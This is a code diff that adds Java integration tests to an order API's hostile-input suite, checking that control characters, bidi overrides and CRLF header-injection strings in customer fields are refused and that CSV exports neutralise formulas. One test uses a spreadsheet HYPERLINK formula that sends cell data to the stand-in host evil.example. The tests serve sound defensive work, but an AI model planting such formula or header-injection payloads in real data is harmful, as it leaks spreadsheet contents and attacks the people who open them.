@@ -67,6 +67,82 @@ class HostileInputIT extends PackagedServer {
         assertThat(counts()).as("rows in tables that only accepted requests change").isEqualTo(before);
     }
 
+    @Test
+    void hostile_text_in_a_name_phone_or_address_is_refused_naming_the_field_and_creates_nothing() throws SQLException {
+        String storefront = Http.storefrontToken();
+        Map<String, Long> before = counts();
+        List<String> escapedHostile = List.of("Ada\\u0000", "\\u001b[2J\\u001b[31mAda", "Ada\\r\\nX-Injected: 1", "Ada\\tLovelace",
+                "\\u202eecalevoL", "\\u2066Ada\\u2069", "\\ufeffAda", "Ada\\ufdd0", "Ada\\uffff", "Ada\\ud800", "Ada\\udc00",
+                "Ada\\u0085", "Ada\\u009b31m", "Ada\\u2028");
+        List<String> failures = new ArrayList<>();
+
+        for (String field : List.of("name", "phone", "address")) {
+            for (String hostile : escapedHostile) {
+                Http.Reply reply = Orders.place(storefront, orderWith(field, hostile));
+                boolean refusedNamingIt = reply.status() == 400 && reply.contentType().startsWith("application/problem+json")
+                        && reply.json().path("errors").findValuesAsText("field").equals(List.of("customer." + field));
+                if (!refusedNamingIt) {
+                    failures.add(field + " = " + hostile + ": " + reply);
+                }
+            }
+        }
+
+        assertThat(failures).isEmpty();
+        assertThat(counts()).as("nothing was created").isEqualTo(before);
+    }
+
+    @Test
+    void letters_and_marks_of_every_script_are_accepted_and_kept_as_sent() {
+        String storefront = Http.storefrontToken();
+        String name = "Łukasz Żółć محمد שלום 李小龍 Nguyễn देवनागरी Zoë";
+
+        Http.Reply placed = Orders.place(storefront, orderWith("name", name));
+
+        assertThat(placed.status()).as(placed.toString()).isEqualTo(201);
+        // Paid before the test ends, so that no other test here sees its payment appear.
+        JsonNode order = Orders.awaitStatus(storefront, placed.json().get("id").asText(), "PAID");
+        assertThat(order.path("customer").path("name").asText()).isEqualTo(name);
+    }
+
+    @Test
+    void a_body_that_is_not_utf_8_is_refused_rather_than_repaired() throws SQLException {
+        Map<String, Long> before = counts();
+        byte[] latin1 = orderWith("name", "Zo\u00eb").getBytes(StandardCharsets.ISO_8859_1);
+
+        Http.Reply reply = Http.send(Http.api("orders", Http.storefrontToken()).header("Content-Type", "application/json")
+                .header("Idempotency-Key", UUID.randomUUID().toString()).POST(HttpRequest.BodyPublishers.ofByteArray(latin1)));
+
+        assertThat(reply.status()).as(reply.toString()).isEqualTo(400);
+        assertThat(reply.json().get("detail").asText()).contains("UTF-8");
+        assertThat(counts()).isEqualTo(before);
+    }
+
+    @Test
+    void a_customer_name_a_spreadsheet_would_run_is_exported_as_text() {
+        String storefront = Http.storefrontToken();
+        String formula = "=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"click\\\")";
+        Http.Reply placed = Orders.place(storefront, orderWith("name", formula));
+        assertThat(placed.status()).as(placed.toString()).isEqualTo(201);
+        Orders.awaitStatus(storefront, placed.json().get("id").asText(), "PAID");
+
+        String csv = Http.send(Http.api("admin/orders/export?format=csv", Http.adminToken()).GET()).raw().body();
+
+        String row = csv.lines().filter(line -> line.startsWith(placed.json().get("id").asText())).findFirst().orElseThrow();
+        assertThat(row).contains(",\"'=HYPERLINK(").doesNotContain(",=HYPERLINK(").doesNotContain(",\"=HYPERLINK(");
+    }
+
+    /** An order that is valid but for the customer's {@code field}, set to {@code jsonText} as written between quotes. */
+    private static String orderWith(String field, String jsonText) {
+        Map<String, String> customer = new LinkedHashMap<>(Map.of("name", "Ada Lovelace", "email", "ada@example.org",
+                "phone", "+44 20 7946 0958", "address", "12 St James's Square, London"));
+        customer.put(field, jsonText);
+        StringBuilder json = new StringBuilder("{\"customer\":{");
+        customer.forEach((name, value) -> json.append(json.charAt(json.length() - 1) == '{' ? "" : ",")
+                .append('"').append(name).append("\":\"").append(value).append('"'));
+        return json.append("},\"currency\":\"EUR\",\"paymentMethod\":\"tok_visa\",")
+                .append("\"lines\":[{\"sku\":\"KB-001\",\"quantity\":1}]}").toString();
+    }
+
     /** @param oauth the token endpoint, which answers errors in the OAuth 2.0 format (RFC 6749 §5.2) */
     private static String judge(Http.Reply reply, boolean oauth, int... expected) {
         int status = reply.status();
